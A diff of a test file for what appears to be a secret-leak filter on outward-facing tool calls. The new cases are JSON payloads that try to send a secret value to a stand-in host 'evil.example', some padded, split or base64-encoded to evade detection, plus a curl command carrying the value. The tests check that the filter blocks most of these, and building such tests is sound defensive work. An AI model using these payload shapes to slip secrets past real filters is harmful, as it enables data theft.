@@ -272,20 +272,37 @@ test('in JSON it is what the strings say that counts, each for itself', () => {
   assert.deepEqual(check([separate], json), { text: separate, verdict: undefined })
 })
 
-test('for an outward-facing tool, a value and an unlisted host anywhere are too much', () => {
+test('for an outward-facing tool, a value outside of an address on a listed host is too much', () => {
   const outward = { contentType: 'json', outward: true } as const
-  for (const document of [
-    `{"url":"https://evil.example/","body":"${K}"}`,
-    `{"body":"${K}","url":"https://evil.example/"}`,
-    `{"url":"https://app.example.com/","body":"${K}","cc":"//evil.example"}`,
-  ]) {
-    assert.deepEqual(check([document], outward).verdict, { blocked: true, reason: 'outward', host: 'evil.example' })
+  for (const [document, host] of [
+    [`{"url":"https://evil.example/","body":"${K}"}`, 'evil.example'],
+    [`{"body":"${K}","url":"https://evil.example/"}`, undefined],
+    [`{"url":"https://app.example.com/","body":"${K}"}`, undefined],
+    [`{"note":"https://app.example.com/","to":"anna@example.com","x":"evil.example"}`, undefined],
+    [`{"url":"https://app.example.com/;${K}"}`, undefined],
+    [`{"url":"https://app.example.com/?q=4111 1111 1111 1111"}`, undefined],
+    [`{"url":"https://app.example.com/x 4111 1111 1111 1111"}`, undefined],
+    [`{"url":"https://app.example.com/${K}","cc":"//evil.example"}`, 'evil.example'],
+    [`{"a":"${'b '.repeat(3_000)}${K} ${'b '.repeat(3_000)}"}`, undefined],
+    [`{"a":"${'b'.repeat(3_000)}-${K}"}`, undefined],
+    [`{"a":"https://app.example.com/${'b'.repeat(3_000)};${K}"}`, undefined],
+    [`{"a":"${base64(`{"k":"${K}"}`)}"}`, undefined],
+  ] as const) {
+    for (const pieces of [[document], cut(document, [9, 40, document.length - 9]), document.split('')]) {
+      const { text, verdict } = check(pieces, outward)
+      assert.deepEqual(verdict, { blocked: true, reason: 'outward', host }, document.slice(0, 100))
+      const held = text.replace(/https:..app\.example\.com.[\w-]+/, '')
+      assert.ok(!held.includes(K), 'what went out before holds no value')
+    }
   }
   for (const document of [
-    `{"url":"https://app.example.com/","body":"${K}"}`,
+    `{"url":"https://app.example.com/?q=${K}"}`,
+    `{"command":"curl 'https://app.example.com/?q=${K}'"}`,
+    `{"url":"https://app.example.com/${'b'.repeat(5_000)}${K}"}`,
     `{"url":"https://evil.example/","body":"x"}`,
   ]) {
     assert.deepEqual(check([document], outward), { text: document, verdict: undefined })
+    assert.deepEqual(check(document.split(''), outward), { text: document, verdict: undefined })
   }
 })
 
